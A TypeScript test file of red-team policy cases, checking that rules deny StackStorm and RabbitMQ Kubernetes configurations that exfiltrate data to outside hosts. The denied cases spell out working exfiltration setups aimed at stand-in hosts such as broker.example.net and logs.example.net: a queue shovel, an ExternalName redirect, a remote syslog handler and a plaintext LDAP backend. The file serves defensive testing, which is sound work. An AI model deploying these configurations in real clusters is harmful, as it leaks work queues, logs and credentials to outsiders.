/**
 * rules.test.ts's cases for the thirteenth red team's store exfiltration (the overlays are in
 * test/policy/redteam/fresh13-stores.ts), each denied and allowed through the compiled wasm.
 */
import type { Manifest } from '../../src/core/manifest.js';
import { configMap, meta, workload } from './support.js';
import { deny, type RuleCase } from './rule-case.js';

/** The timers engine reading a coordination url at `coord`, and the Service `coord` an ExternalName to `target`. */
function coordinationThrough(target: string): Manifest[] {
  return [
    workload('st2timersengine', {
      container: { volumeMounts: [{ name: 'cfg', mountPath: '/etc/st2/st2.user.conf', subPath: 'st2.user.conf' }] },
      pod: { volumes: [{ name: 'cfg', configMap: { name: 'st2-user-config' } }] },
    }),
    configMap('st2-user-config', { 'st2.user.conf': '[coordination]\nurl = redis://coord:6379\n' }),
    { apiVersion: 'v1', kind: 'Service', metadata: meta('coord'), spec: { type: 'ExternalName', externalName: target } },
  ];
}

/** RabbitMQ definitions (loaded at boot) declaring a shovel of st2's work queue to `dest`. */
const shovelTo = (dest: string): Manifest[] => [
  configMap('rabbitmq-definitions', { 'definitions.json': JSON.stringify({ parameters: [{ component: 'shovel', name: 'dr', vhost: '/', value: { 'src-uri': 'amqp://', 'src-queue': 'st2.actionrunner.work', 'dest-uri': dest } }] }) }),
];

const rabbitConf = (lines: string): Manifest[] => [configMap('rabbitmq-config', { 'rabbitmq.conf': `auth_backends.1 = ldap\nauth_backends.2 = internal\n${lines}` })];

/** The timers engine mounting a logging config whose handler sends to `args`. */
const loggingTo = (cls: string, args: string): Manifest[] => [
  workload('st2timersengine', {
    container: { volumeMounts: [{ name: 'logcfg', mountPath: '/etc/st2/logging.timersengine.conf', subPath: 'logging.conf' }] },
    pod: { volumes: [{ name: 'logcfg', configMap: { name: 'st2-logcfg' } }] },
  }),
  configMap('st2-logcfg', { 'logging.conf': `[loggers]\nkeys=root\n[handlers]\nkeys=out\n[formatters]\nkeys=f\n[logger_root]\nlevel=INFO\nhandlers=out\n[handler_out]\nclass=${cls}\nlevel=INFO\nformatter=f\nargs=${args}\n[formatter_f]\nformat=%(message)s\n` }),
];

export function fresh13StoresRuleCases(): RuleCase[] {
  const prod = 'production';
  return [
    { name: "a Service st2's coordination url names made an ExternalName to an outside host is denied", rule: 'ST2-EXP-017', environment: prod, resources: () => coordinationThrough('coord.example.net'), expected: deny('ST2-EXP-017', { field: 'spec.externalName', message: 'host=coord.example.net' }) },
    { name: 'the same Service as an ExternalName to another namespace of the cluster is allowed', rule: 'ST2-EXP-017', environment: prod, resources: () => coordinationThrough('redis.shared.svc.cluster.local'), expected: 'allowed' },
    { name: 'a shovel of st2 work to an outside broker is denied', rule: 'ST2-SEC-039', environment: prod, resources: () => shovelTo('amqp://dr:secret@broker.example.net'), expected: deny('ST2-SEC-039', { message: 'host=broker.example.net' }) },
    { name: 'a shovel to a broker in the cluster is allowed', rule: 'ST2-SEC-039', environment: prod, resources: () => shovelTo('amqp://rabbitmq-dr:5672'), expected: 'allowed' },
    { name: "RabbitMQ's LDAP server outside the cluster, without TLS, is denied", rule: 'ST2-OPS-013', environment: prod, resources: () => rabbitConf('auth_ldap.servers.1 = ldap.example.net\n'), expected: deny('ST2-OPS-013', { message: 'host=ldap.example.net' }) },
    { name: "st2's logging config with a SysLogHandler to an outside host is denied", rule: 'ST2-SEC-040', environment: prod, resources: () => loggingTo('handlers.SysLogHandler', "(('logs.example.net', 514),)"), expected: deny('ST2-SEC-040', { message: 'host=logs.example.net' }) },
    { name: "st2's logging config with a SysLogHandler to the node's /dev/log is allowed", rule: 'ST2-SEC-040', environment: prod, resources: () => loggingTo('handlers.SysLogHandler', "('/dev/log',)"), expected: 'allowed' },
    { name: "RabbitMQ's LDAP server in the cluster is allowed", rule: 'ST2-OPS-013', environment: prod, resources: () => rabbitConf('auth_ldap.servers.1 = ldap.directory.svc.cluster.local\nauth_ldap.use_ssl = true\n'), expected: 'allowed' },
  ];
}
